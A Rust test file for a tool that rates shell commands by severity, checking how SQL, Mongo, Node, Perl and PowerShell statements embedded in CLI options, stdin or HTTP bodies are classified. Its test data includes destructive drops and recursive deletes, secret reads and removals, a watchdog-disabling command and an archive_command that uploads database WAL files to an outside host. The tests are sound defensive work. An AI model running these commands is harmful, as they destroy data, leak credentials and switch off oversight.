//! Tests of embedded languages read by content (issue #13, holdout8 analysis §2 c): a statement
//! or script carried by an option, stdin, a here-string, an HTTP parameter or body field, or a
//! remote shell goes to the reader of its language whatever program carries it; the readers
//! read their language's structure (Perl's quote operators, the async and sync twins of a
//! filesystem call, a mongo batch's entries, static .NET calls, every dialect's statements that
//! destroy or take over, PowerShell's verb and noun). Written from the tools' own documentation
//! (SAP HANA's hdbsql, unixODBC's isql, IBM Db2's CLP, MySQL Shell, Apache Hive's beeline,
//! usql, InfluxQL, SurrealQL, Databricks' Statement Execution API, ClickHouse's KILL QUERY,
//! PostgreSQL's ALTER SYSTEM and GRANT, Oracle's DROP USER, MongoDB's bulkWrite and delete
//! command, Node's fs/promises, Bun, Perl's File::Path and quote-like operators, .NET's
//! System.IO and Microsoft.VisualBasic.FileIO, SecretManagement, AWS Tools for PowerShell), none
//! of them a program or spelling of a labeled set. The near misses first.

use crate::Severity;
use crate::recognize::embedded::{Language, language, request_texts};
use crate::severity_tables::{ALLOW, CONFIRM, STOP, VERIFY, expect_alone, expect_at_least};

#[test]
fn reads_and_data_in_the_same_carriers_go_ahead() {
    expect_alone(&[
        // Reads in every carrier: an option, a here-string, a pipe, an operand, an HTTP field.
        (r#"mysqlsh --sql -e "SHOW PROCESSLIST""#, ALLOW),
        ("isql -v PRODDSN <<< 'SELECT COUNT(*) FROM ledger'", ALLOW),
        (
            r#"echo 'SELECT * FROM orders LIMIT 5;' | hdbsql -n hana-prod:30015 -u REPORTER"#,
            ALLOW,
        ),
        (r#"db2 "SELECT TABNAME FROM SYSCAT.TABLES""#, ALLOW),
        (
            r#"beeline -u jdbc:hive2://hive-prod:10000 -e "DESCRIBE sales.orders""#,
            ALLOW,
        ),
        (
            r#"curl -X POST https://adb-1.azuredatabricks.net/api/2.0/sql/statements -d '{"warehouse_id":"abc","statement":"SELECT * FROM main.sales.orders LIMIT 10"}'"#,
            ALLOW,
        ),
        (
            r#"curl "http://influx-prod:8086/query?db=metrics" --data-urlencode "q=SHOW MEASUREMENTS""#,
            ALLOW,
        ),
        (
            r#"curl -X POST http://surreal-prod:8000/sql -H "NS: shop" -H "DB: live" -d "SELECT * FROM orders LIMIT 5""#,
            ALLOW,
        ),
        // SQL Server's KILL ... WITH STATUSONLY only reports a rollback's progress.
        (r#"mysqlsh --sql -e "KILL 53 WITH STATUSONLY""#, ALLOW),
        // A statement that is only data: searched for, committed as a message, written to a file.
        (r#"grep -rn "DROP TABLE" migrations/"#, ALLOW),
        (
            r#"git commit -m "DROP TABLE legacy_sessions in migration 42""#,
            ALLOW,
        ),
        ("echo 'KILL 81231' | tee notes.txt", ALLOW),
        // Mongo reads and inserts, in a batch too.
        (
            r#"mongosh --eval 'db.orders.bulkWrite([{ insertOne: { document: { sku: "a1" } } }])'"#,
            ALLOW,
        ),
        (
            r#"node -e "require('mongodb').MongoClient.connect(process.env.URI).then(c => c.db('shop').collection('carts').find({}).limit(5).toArray())""#,
            ALLOW,
        ),
        // Filesystem reads, and deletes of the project's build output or temporary files.
        (
            r#"bun -e "import { readFile } from 'node:fs/promises'; console.log(await readFile('/etc/hosts', 'utf8'))""#,
            ALLOW,
        ),
        (
            r#"deno eval "console.log(await Deno.readTextFile('./README.md'))""#,
            ALLOW,
        ),
        (
            r#"perl -MFile::Path=remove_tree -e 'remove_tree(q{target/tmp})'"#,
            ALLOW,
        ),
        // A quote operator that is no path: nothing deleted.
        (
            r#"perl -MFile::Path=remove_tree -e 'print q{nothing to remove}'"#,
            ALLOW,
        ),
        // PowerShell reads: a listing, a secret kept as a SecureString, a file read by .NET.
        (
            "Get-ChildItem -Path C:\\Users\\maria\\Documents -Recurse",
            ALLOW,
        ),
        ("Get-Secret -Name AzureSP", ALLOW),
        ("Get-SecretInfo -Vault prod", ALLOW),
        (
            r#"pwsh -c "[System.IO.File]::ReadAllText('C:\app\config.json')""#,
            ALLOW,
        ),
        // A storage array's listing through ssh.
        (r#"ssh admin@nimble01 "vol --list""#, ALLOW),
    ]);
}

#[test]
fn sql_of_every_dialect_through_any_carrier_is_judged() {
    expect_alone(&[
        // Oracle and SAP HANA: a user dropped with CASCADE takes its schema along.
        (
            r#"hdbsql -n hana-prod:30015 -u SYSTEM "DROP USER REPORTING CASCADE""#,
            STOP,
        ),
        // Db2's command line processor takes the statement as its operand.
        (r#"db2 "DROP TABLESPACE userspace1""#, STOP),
        // unixODBC's isql reads statements on stdin.
        ("isql -v PRODDSN <<< 'DROP TABLE ledger'", VERIFY),
        // Hive through beeline.
        (
            r#"beeline -u jdbc:hive2://hive-prod:10000 -e "DROP DATABASE sales CASCADE""#,
            STOP,
        ),
        // MySQL Shell: KILL ends another session.
        (r#"mysqlsh --sql -e "KILL 4411""#, CONFIRM),
        // ClickHouse's KILL QUERY.
        (
            r#"clickhouse-client --query "KILL QUERY WHERE user = 'etl'""#,
            CONFIRM,
        ),
        // PostgreSQL's ALTER SYSTEM: archive_command runs a program for every WAL segment.
        (
            r#"usql pg://prod/app -c "ALTER SYSTEM SET archive_command = 'curl -T %p https://x.io'""#,
            VERIFY,
        ),
        (
            r#"usql pg://db-02/app -c "ALTER SYSTEM SET work_mem = '64MB'""#,
            CONFIRM,
        ),
        // A grant to every role there is.
        (
            r#"psql -c "GRANT SELECT ON ALL TABLES IN SCHEMA billing TO PUBLIC""#,
            CONFIRM,
        ),
        // InfluxQL in an HTTP query parameter.
        (
            r#"curl "http://influx-prod:8086/query?db=metrics" --data-urlencode "q=DROP SERIES FROM cpu""#,
            VERIFY,
        ),
        (r#"influx -execute "DROP MEASUREMENT cpu""#, VERIFY),
        // A JSON body's statement field (Databricks' Statement Execution API).
        (
            r#"curl -X POST https://adb-1.azuredatabricks.net/api/2.0/sql/statements -d '{"warehouse_id":"abc","statement":"DROP TABLE main.sales.orders"}'"#,
            VERIFY,
        ),
        // SurrealQL through its HTTP endpoint: the body is the statement.
        (
            r#"curl -X POST http://surreal-prod:8000/sql -H "NS: shop" -H "DB: live" -d "REMOVE TABLE orders""#,
            VERIFY,
        ),
    ]);
}

#[test]
fn code_read_by_structure_not_spelling() {
    expect_at_least(&[
        // Node's promise API imported by name, run by Bun.
        (
            r#"bun -e "import { rm } from 'node:fs/promises'; await rm('/var/lib/redis', { recursive: true })""#,
            Severity::Verify,
        ),
        // The twin through a required module.
        (
            r#"node -e "require('fs/promises').rm('/var/lib/app', {recursive: true, force: true})""#,
            Severity::Verify,
        ),
        // Perl's quote-like operators are strings.
        (
            r#"perl -MFile::Path=remove_tree -e 'remove_tree(qq(/home/deploy))'"#,
            Severity::Verify,
        ),
        (
            r#"perl -MFile::Path=remove_tree -e 'remove_tree(q(/srv/git/repos))'"#,
            Severity::Confirm,
        ),
        // A MongoDB driver's bulk write and the server's delete command.
        (
            r#"node -e "const {MongoClient}=require('mongodb'); new MongoClient(process.env.URI).db('shop').collection('carts').bulkWrite([{deleteMany:{filter:{}}}])""#,
            Severity::Verify,
        ),
        (
            r#"mongosh --eval 'db.getSiblingDB("shop").runCommand({ delete: "carts", deletes: [ { q: {}, limit: 0 } ] })'"#,
            Severity::Verify,
        ),
        // .NET's Visual Basic file API, called from PowerShell.
        (
            r#"powershell -NoProfile -Command "[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('D:\Backups', 'DeleteAllContents')""#,
            Severity::Verify,
        ),
    ]);
}

#[test]
fn powershell_verbs_and_nouns_decide() {
    expect_alone(&[
        // The secret store read in plain text (SecretManagement, AWS Tools for PowerShell).
        (
            "Get-SSMParameter -Name /prod/db/password -WithDecryption $true",
            CONFIRM,
        ),
        // Removing a secret: whoever depends on it loses access.
        ("Remove-Secret -Name DbPassword -Vault prod", VERIFY),
        // A query cmdlet's statement (SqlServer module, dbatools).
        (
            r#"Invoke-Sqlcmd -ServerInstance sql-prod-01 -Query "DROP DATABASE Billing""#,
            STOP,
        ),
        (
            r#"Invoke-DbaQuery -SqlInstance sql-prod-01 -Query "SELECT name FROM sys.databases""#,
            ALLOW,
        ),
        // The guard named as the object, whatever the noun.
        ("Disable-ScheduledTask -TaskName airlock-watchdog", STOP),
        // Any other scheduled task is bounded.
        ("Disable-ScheduledTask -TaskName nightly-report", CONFIRM),
    ]);
}

#[test]
fn the_language_is_told_from_the_text_not_the_program() {
    assert_eq!(language("DROP TABLE t"), Some(Language::Sql));
    assert_eq!(language("  kill 81231"), Some(Language::Sql));
    assert_eq!(language("db.orders.drop()"), Some(Language::Mongo));
    assert_eq!(
        language("[IO.File]::Delete('C:\\x')"),
        Some(Language::PowerShell)
    );
    assert_eq!(
        language("Remove-Item -Recurse C:\\x"),
        Some(Language::PowerShell)
    );
    assert_eq!(language("await Deno.remove('/srv')"), Some(Language::Code));
    // Not a language: a file, a setting, a sentence.
    assert_eq!(language("config.yaml"), None);
    assert_eq!(language("production"), None);
    assert_eq!(language("show me the logs"), None);
    assert_eq!(language("update the docs"), None);
    // The named fields of a request, decoded.
    let texts = request_texts("db=metrics&q=DROP SERIES FROM cpu", &[]);
    assert_eq!(texts, vec!["DROP SERIES FROM cpu"]);
    let texts = request_texts("", &[r#"{"warehouse_id":"w","statement":"DROP TABLE t"}"#]);
    assert_eq!(texts, vec!["DROP TABLE t"]);
    let texts = request_texts("", &["query=DROP%20TABLE+trades"]);
    assert_eq!(texts, vec!["DROP TABLE trades"]);
}

#[test]
fn a_huge_carried_statement_stays_bounded() {
    // A 200 KB statement through every carrier: read by its first part, in linear time.
    let big = format!("DELETE FROM t WHERE {}", "a = 1 AND ".repeat(20_000));
    let line = format!("mysqlsh --sql -e \"{big}\" <<< \"{big}\"");
    let _ = crate::judge(&line, &[]);
    let calls = "fs.rm('/tmp/x'); ".repeat(10_000);
    let _ = crate::judge(&format!("bun -e \"{calls}\""), &[]);
}
